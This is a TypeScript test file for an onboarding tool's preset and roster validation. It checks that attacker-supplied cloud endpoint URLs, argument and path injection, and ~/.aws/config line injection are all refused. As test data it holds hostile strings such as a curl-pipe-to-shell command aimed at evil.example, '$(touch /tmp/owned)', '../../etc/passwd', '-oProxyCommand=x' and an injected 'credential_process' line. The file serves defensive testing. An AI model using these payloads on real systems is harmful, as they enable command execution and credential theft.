// A preset, or a roster, written by somebody who wants tokens, a foothold or a yes: what it may not say, and what it cannot do with what it may.

import {createHash} from 'node:crypto';
import {mkdir, mkdtemp, readFile, rm, writeFile} from 'node:fs/promises';
import {createServer} from 'node:http';
import type {AddressInfo} from 'node:net';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {describe, expect, it} from 'vitest';
import {rosterOf} from '../../src/cohort/roster/roster.ts';
import {checkPreset} from '../../src/preset/check.ts';
import {personalAnswers} from '../../src/preset/schema.ts';
import {providers} from '../../src/providers/all.ts';
import {exportsFor} from '../../src/providers/bedrock/exports.ts';
import {planAwsConfig} from '../../src/save/aws-config.ts';
import {runCommand} from '../helpers/command.ts';
import {acmePreset} from '../helpers/presets.ts';

type Answers = Readonly<Record<string, string>>;
const problemsOf = (answers: Answers, more: object = {}): readonly string[] => {
	const checked = checkPreset(JSON.stringify({schema: 'onboard/preset@1', organization: 'Acme', answers, ...more}), providers);
	return checked.isGood ? [] : checked.problems;
};

describe('an address that would collect sign-ins', () => {
	const vpce = 'https://vpce-0a1b2c3d4e5f67890-abcd1234-us-east-1a.bedrock-runtime.us-east-1.vpce.amazonaws.com';

	it.each<readonly [string, Answers]>([
		['a stranger’s', {provider: 'vertex', route: 'private', baseUrl: 'https://evil.example/v1'}],
		['one without a route', {provider: 'vertex', baseUrl: 'https://evil.example/v1'}],
		['one on the direct route', {provider: 'foundry', route: 'direct', baseUrl: 'https://evil.example'}],
		['one that ends like the cloud’s', {provider: 'vertex', route: 'private', baseUrl: 'https://evilgoogleapis.com'}],
		['one that begins like the cloud’s', {provider: 'vertex', route: 'private', baseUrl: 'https://aiplatform.googleapis.com.evil.example'}],
		['a virtual machine at Azure', {provider: 'foundry', route: 'private', baseUrl: 'https://evil.westeurope.cloudapp.azure.com'}],
		['an API of somebody at AWS', {provider: 'bedrock', route: 'private', baseUrl: 'https://abc123.execute-api.us-east-1.amazonaws.com/p'}],
		['another cloud’s', {provider: 'foundry', route: 'private', baseUrl: vpce}],
		['one for whichever cloud', {route: 'private', baseUrl: vpce}],
		['this machine', {provider: 'vertex', route: 'private', baseUrl: 'http://127.0.0.1:8080'}],
	])('is refused: %s', (_, answers) => {
		expect(problemsOf(answers)).toEqual([expect.stringMatching(/^answers\.baseUrl is no address of the cloud itself/u)]);
		const shared = Object.fromEntries(Object.entries(answers).filter(([id]) => id !== 'baseUrl'));
		const cells = new Map([
			['name', 'Dana'],
			['email', 'dana@acme.example'],
			['baseUrl', answers['baseUrl'] ?? ''],
			['provider', answers['provider'] ?? 'vertex'],
		]);
		const roster = rosterOf({columns: [...cells.keys()], rows: [{row: 2, cells}], blank: []}, shared);
		expect(roster.problems.map(({row, column, text}) => [row, column, text.slice(0, 32)])).toEqual([
			[2, 'baseUrl', 'is no address of the cloud itself'.slice(0, 32)],
		]);
	});

	it('is refused beside a gateway that the person may turn off', () => {
		const answers = {provider: 'vertex', route: 'gateway', baseUrl: 'https://llm.acme.example/v1'};
		expect(problemsOf(answers, {open: ['route']})).toHaveLength(1);
	});

	it.each<readonly [string, Answers]>([
		['a gateway, which gets no sign-in', {provider: 'vertex', route: 'gateway', baseUrl: 'https://llm.acme.example/v1'}],
		['a gateway on this machine', {provider: 'bedrock', route: 'gateway', baseUrl: 'http://127.0.0.1:4000/bedrock'}],
		['an interface endpoint', {provider: 'bedrock', route: 'private', baseUrl: vpce}],
		['one of China', {provider: 'bedrock', route: 'private', baseUrl: 'https://bedrock-runtime.cn-north-1.amazonaws.com.cn'}],
		['with FIPS', {provider: 'bedrock', route: 'direct', baseUrl: 'https://bedrock-runtime-fips.us-east-1.amazonaws.com'}],
		['Private Service Connect', {provider: 'vertex', route: 'private', baseUrl: 'https://us-central1-aiplatform-psc.p.googleapis.com/v1'}],
		['a resource', {provider: 'foundry', route: 'private', baseUrl: 'https://acme.services.ai.azure.com/anthropic'}],
	])('is told apart from %s', (_, answers) => {
		expect(problemsOf(answers)).toEqual([]);
	});
});

describe('a word where a value belongs', () => {
	const hostile = [
		'us-east-1.evil.example/',
		'us-east-1#',
		'us-east-1@evil.example',
		'x;curl evil.example|sh',
		'$(touch /tmp/owned)',
		'`id`',
		"x' y",
		'x" y',
		'x\\',
		'../../etc/passwd',
		'-oProxyCommand=x',
	];
	/** Answers that become part of a host name, a command or a section's name. */
	it.each(['region', 'ssoRegion', 'profileName', 'account', 'location', 'project', 'resource', 'subscription', 'tenant'])(
		'does not get into %s',
		id => {
			expect(hostile.filter(value => problemsOf({[id]: value}).length === 0)).toEqual([]);
		},
	);

	it.each([
		'http://evil.example',
		'javascript:alert(1)',
		'file:///etc/passwd',
		'https://dana:x@evil.example',
		"https://x'y",
		'https://x y',
	])('does not become an address: %s', address => {
		for (const field of ['startUrl', 'baseUrl']) {
			expect(problemsOf({[field]: address, route: 'gateway'}).length, field).toBeGreaterThan(0);
		}

		expect(problemsOf({}, {supportUrl: address}).length).toBeGreaterThan(0);
	});
});

describe('a name from a server, a file or a flag', () => {
	it.each(['x\ncredential_process = evil', 'x\r[default]', ' x', 'x\0'])('does not become a line of ~/.aws/config: %j', value => {
		expect(planAwsConfig(undefined, [{header: 'profile x', keys: {sso_role_name: value}}]).ok).toBe(false);
		expect(planAwsConfig(undefined, [{header: `profile ${value}`, keys: {region: 'us-east-1'}}]).ok).toBe(false);
		expect(planAwsConfig(undefined, [{header: 'profile x', keys: {[value]: 'us-east-1'}}]).ok).toBe(false);
	});

	it.each(['x; touch owned', '$(touch owned)', '`touch owned`', 'x y', "x'", '-x', 'x|y', 'x\ny'])(
		'does not become a part of the command that Claude Code runs: %j',
		profileName => {
			const answers = Object.fromEntries(
				Object.entries({signIn: 'sso', profileName}).map(([id, value]) => [id, {value, origin: 'flag' as const}]),
			);
			expect(exportsFor(answers, {hasProviderTool: true, ownCommand: 'onboard', home: '/home/dana'}).settings).toEqual({});
		},
	);
});

describe('a remote preset that changed', () => {
	it('is used after a yes only, and named where there is nobody to ask', {timeout: 180_000}, async () => {
		const home = await mkdtemp(path.join(tmpdir(), 'onboard-changed-'));
		const content = await readFile(acmePreset, 'utf8');
		const server = createServer((_request, response) => {
			response.end(content);
		});
		await new Promise<void>(resolve => {
			server.listen(0, '127.0.0.1', resolve);
		});
		const {port} = server.address() as AddressInfo;
		const given = ['--sandbox', '--home', home, '--preset', `http://127.0.0.1:${port}/acme.json`];
		const label = `127.0.0.1:${port}/acme.json`;
		const seen = async (hash: string) => {
			await mkdir(path.join(home, '.config/onboard'), {recursive: true});
			await writeFile(
				path.join(home, '.config/onboard/config.json'),
				JSON.stringify({version: 1, answers: {}, presetHashes: {[label]: hash}}),
			);
		};
		try {
			await seen(createHash('sha256').update(content).digest('hex'));
			expect((await runCommand(['--yes', ...given], {home})).stderr).not.toContain('has changed');
			await seen('another');
			expect((await runCommand(['--yes', ...given], {home})).stderr).toContain(`The preset ${label} has changed since you last used it.`);
			await expect(runCommand(['--plain', ...given], {home, input: '2\n'})).rejects.toThrow('The changed preset was not used.');
		} finally {
			server.close();
			await rm(home, {recursive: true, force: true});
		}
	});
});

describe('a yes in the person’s place', () => {
	it.each(Object.keys(personalAnswers))('cannot be given: %s', id => {
		expect(problemsOf({[id]: 'yes'})).toEqual([expect.stringContaining('cannot be preset')]);
	});
});
